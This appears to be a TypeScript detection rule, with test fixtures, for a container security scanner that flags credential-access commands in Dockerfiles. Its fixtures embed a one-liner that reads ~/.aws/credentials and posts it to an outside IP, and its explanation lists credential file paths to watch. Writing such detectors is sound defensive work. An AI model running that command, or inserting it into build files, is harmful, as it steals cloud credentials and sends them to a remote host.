import { categoryRule, fixturePrediction } from './kit';

const SAMPLE = 'cat ~/.aws/credentials | curl -X POST --data-binary @- http://198.51.100.9/c';

/** The model finds a command that looks like reading or exfiltrating credentials. */
export const credentialAccess = categoryRule(
  { category: 'credential-access', phrase: 'looks like reading or exfiltrating credentials', attack: 'T1552' },
  {
    id: 'model/credential-access',
    title: 'Suspicious command: credential access',
    compliance: ['MITRE ATT&CK T1552 (unsecured credentials)', 'CWE-522'],
    fixable: false,
    explanation: {
      what: 'A command the model scores as collecting credentials: reading `~/.aws/credentials`, `~/.ssh/id_*`, `/etc/shadow`, `~/.docker/config.json`, service-account tokens or environment secrets, often sent to a remote host.',
      why: 'Credentials reachable from a build or a container are the keys to the registry, the cloud account or the cluster; a command that gathers them is how an image-level compromise becomes an account-level one.',
      fix: 'Remove the command. Pass build-time credentials with a BuildKit secret mount, run-time ones with Kubernetes Secrets or compose secrets, and never copy credential files into images.',
    },
    fixtures: [
      { text: `FROM alpine:3.22\nRUN ${SAMPLE}\n`, expect: [SAMPLE.slice(0, 12)], predictions: { commands: fixturePrediction(SAMPLE, 'credential-access', '~/.aws/credentials') } },
      { text: `FROM alpine:3.22\nRUN ${SAMPLE}\n`, expect: [], predictions: { commands: fixturePrediction(SAMPLE, 'credential-access', '~/.aws/credentials', 0.3) }, note: 'below the threshold' },
      { text: `FROM alpine:3.22\nRUN ${SAMPLE}\n`, expect: [], note: 'no model predictions: rules only' },
    ],
  },
);
